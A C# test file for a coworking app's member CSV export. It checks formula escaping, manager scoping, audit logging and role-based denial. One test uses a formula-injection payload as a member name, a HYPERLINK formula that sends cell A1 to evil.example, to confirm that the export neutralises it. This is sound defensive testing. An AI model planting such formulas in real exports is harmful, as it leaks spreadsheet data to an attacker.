using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Cotravail.Modules.Demo;
using Cotravail.Tests.Infrastructure;
using Cotravail.Tests.Modules.Locations;

namespace Cotravail.Tests.Modules.Members;

public abstract class MemberExportTests(TestApp app)
{
    private static async Task CreateMemberAsync(HttpClient admin, Guid location, string firstName, string lastName, string email)
    {
        using var response = await admin.PostAsJsonAsync("/api/v1/members", new { firstName, lastName, email, category = "Freelancer", homeLocationId = location });
        response.StatusCode.ShouldBe(HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
    }

    /// Splits RFC 4180 text into records of unquoted cells.
    private static List<List<string>> ParseCsv(string text, char separator)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == separator)
            {
                record.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                record.Add(cell.ToString());
                cell.Clear();
                records.Add(record);
                record = [];
                i++;
            }
            else
            {
                cell.Append(c);
            }
        }
        return records;
    }

    private static async Task<List<List<string>>> ExportAsync(HttpResponseMessage response)
    {
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        response.Content.Headers.ContentDisposition!.FileName!.ShouldContain("members-");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        bytes.Take(3).ShouldBe(new byte[] { 0xEF, 0xBB, 0xBF }, "UTF-8 with a byte order mark, for Excel");
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        var separator = text.Split("\r\n")[0].Contains(';') ? ';' : ',';
        return ParseCsv(text, separator);
    }

    [Fact]
    public async Task Formulas_in_member_names_are_neutralised()
    {
        var admin = await app.ClientForAsync(DemoAccounts.NetworkAdmin);
        var paris = await LocationsApiTests.LocationIdAsync(admin, DemoAccounts.ParisSlug);
        var email = TestApp.NewEmail("formula");
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        await CreateMemberAsync(admin, paris, hyperlink, "@SUM(1+1)", email);

        var rows = await ExportAsync(await admin.GetAsync($"/api/v1/members/export.csv?search={Uri.EscapeDataString(email)}"));

        rows.Count.ShouldBe(2);
        var member = rows[1];
        member.ShouldContain("'" + hyperlink);
        member.ShouldContain("'@SUM(1+1)");
        member.ShouldContain(email);
        rows.SelectMany(r => r).ShouldAllBe(cell => cell.Length == 0 || !"=+-@\t\r".Contains(cell[0]));
    }

    [Fact]
    public async Task A_managers_export_holds_only_the_members_of_their_locations_and_is_audited()
    {
        var admin = await app.ClientForAsync(DemoAccounts.NetworkAdmin);
        var paris = await LocationsApiTests.LocationIdAsync(admin, DemoAccounts.ParisSlug);
        var lyon = await LocationsApiTests.LocationIdAsync(admin, DemoAccounts.LyonSlug);
        var tag = Guid.NewGuid().ToString("N")[..10];
        await CreateMemberAsync(admin, paris, "Paula", $"Paris{tag}", TestApp.NewEmail("paula"));
        await CreateMemberAsync(admin, lyon, "Louis", $"Lyon{tag}", TestApp.NewEmail("louis"));

        var manager = await app.ClientForAsync(DemoAccounts.ParisManager);
        var all = await ExportAsync(await manager.GetAsync("/api/v1/members/export.csv"));
        var parisName = (await admin.GetFromJsonAsync<JsonElement>($"/api/v1/locations/{paris}")).GetProperty("name").GetString();
        all.Skip(1).ShouldAllBe(r => r[5] == parisName);
        all.ShouldContain(r => r[0] == $"Paris{tag}");
        all.ShouldNotContain(r => r[0] == $"Lyon{tag}");

        var filtered = await ExportAsync(await manager.GetAsync($"/api/v1/members/export.csv?search={tag}"));
        filtered.Count.ShouldBe(2);
        filtered[1][0].ShouldBe($"Paris{tag}");

        var adminRows = await ExportAsync(await admin.GetAsync($"/api/v1/members/export.csv?search={tag}&sort=-name"));
        adminRows.Skip(1).Select(r => r[0]).ShouldBe([$"Paris{tag}", $"Lyon{tag}"]);

        var audit = await admin.GetFromJsonAsync<JsonElement>("/api/v1/audit?action=data.exported&actorEmail=manager.paris");
        audit.GetProperty("items").EnumerateArray().ShouldContain(e => e.GetProperty("detail").GetString()!.Contains($"search={tag}"));
    }

    [Fact]
    public async Task The_back_office_link_exports_the_same_list_and_members_cannot_export()
    {
        var admin = await app.ClientForAsync(DemoAccounts.NetworkAdmin);
        var paris = await LocationsApiTests.LocationIdAsync(admin, DemoAccounts.ParisSlug);
        var tag = Guid.NewGuid().ToString("N")[..10];
        await CreateMemberAsync(admin, paris, "Page", $"Export{tag}", TestApp.NewEmail("page"));
        using var browser = await app.BrowserClientAsync(DemoAccounts.ParisHost);
        var (_, list) = await TestApp.GetHtmlAsync(browser, $"/admin/members?search={tag}");
        var link = list.QuerySelector("a[href^='/admin/members/export.csv']")!.GetAttribute("href")!;
        var rows = await ExportAsync(await browser.GetAsync(link));
        rows.Skip(1).Select(r => r[0]).ShouldBe([$"Export{tag}"]);

        var member = await app.ClientForAsync(DemoAccounts.Member);
        (await member.GetAsync("/api/v1/members/export.csv")).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        var companyAdmin = await app.ClientForAsync(DemoAccounts.CompanyAdmin);
        (await companyAdmin.GetAsync("/api/v1/members/export.csv")).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        using var memberBrowser = await app.BrowserClientAsync(DemoAccounts.Member);
        using var page = await memberBrowser.GetAsync("/admin/members/export.csv");
        page.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        page.Headers.Location!.ToString().ShouldContain("/account/denied");
    }
}

[Collection(SqliteCollection.Name)]
public sealed class MemberExportTests_Sqlite(SqliteTestApp app) : MemberExportTests(app);

[Collection(PostgresCollection.Name)]
public sealed class MemberExportTests_Postgres(PostgresTestApp app) : MemberExportTests(app);
